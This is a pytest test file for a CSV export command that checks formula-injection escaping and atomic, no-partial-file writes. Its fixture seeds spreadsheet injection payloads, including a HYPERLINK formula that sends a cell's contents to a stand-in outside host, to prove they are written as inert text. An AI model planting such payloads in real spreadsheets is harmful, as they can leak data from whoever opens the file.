"""`binwise export`: the file appears whole or not at all, and no cell is a live formula."""

import csv
import errno

import pytest

from app.core.csv_output import escape_cell, write_csv
from app.db import close_database, open_database
from app.db.models import Item
from tests.cli.file_faults import one_clear_line, run

HEADER = "sku,on_hand,reserved,available"


@pytest.fixture
def warehouse(db_path):
    open_database(db_path)
    for sku in ("MUG-1", "=HYPERLINK(\"http://x.example/?\"&A1,\"Click\")", "+SUM(A1)",
                "-2+3", "@cmd", "\tTAB", "\rCR", "TEA-1"):
        Item.create(sku=sku, name=f"Item {sku!r}")
    close_database()
    return db_path


def _cells(path) -> list[list[str]]:
    with open(path, newline="", encoding="utf-8") as f:
        return list(csv.reader(f))


def test_cells_that_start_a_formula_are_written_as_text(warehouse, tmp_path, capsys):
    target = tmp_path / "available.csv"
    code, out, err = run(capsys, "--db", warehouse, "export", "available", target)
    assert code == 0, err
    skus = [row[0] for row in _cells(target)[1:]]
    assert sorted(skus) == sorted([
        "'\tTAB", "'\rCR", "'+SUM(A1)", "'-2+3", "'=HYPERLINK(\"http://x.example/?\"&A1,\"Click\")",
        "'@cmd", "MUG-1", "TEA-1"])
    assert _cells(target)[0] == HEADER.split(",")
    assert all(row[1:] == ["0", "0", "0"] for row in _cells(target)[1:])


def test_escape_cell_leaves_numbers_and_plain_text_alone():
    assert escape_cell(-5) == -5
    assert escape_cell("A-01-01") == "A-01-01"
    assert escape_cell("") == ""
    assert escape_cell("-5") == "'-5"


def test_a_full_disk_keeps_the_previous_export(warehouse, tmp_path, capsys, monkeypatch):
    target = tmp_path / "available.csv"
    assert run(capsys, "--db", warehouse, "export", "available", target)[0] == 0
    before = target.read_bytes()

    def full(_fd):
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr("app.atomic.os.fsync", full)
    code, _, err = run(capsys, "--db", warehouse, "export", "available", target)
    assert code == 2
    assert one_clear_line(err) == (f"binwise: The disk is full writing {target}: nothing was "
                                   "written. Free some space and try again.")
    assert target.read_bytes() == before
    assert not [p for p in tmp_path.iterdir() if p.name.endswith(".part")]


def test_a_failure_half_way_leaves_no_partial_file(tmp_path):
    target = tmp_path / "out.csv"
    target.write_text("old,file\n", encoding="utf-8")

    def rows():
        yield ("a", 1)
        raise RuntimeError("the query failed")

    with pytest.raises(RuntimeError):
        write_csv(target, ["sku", "qty"], rows())
    assert target.read_text(encoding="utf-8") == "old,file\n"
    assert [p.name for p in tmp_path.iterdir()] == ["out.csv"]


def test_a_new_export_is_readable_by_others(tmp_path):
    target = tmp_path / "new.csv"
    assert write_csv(target, ["a"], [("1",), ("2",)]) == 2
    assert target.stat().st_mode & 0o777 == 0o644
    assert target.read_bytes() == b"a\r\n1\r\n2\r\n"
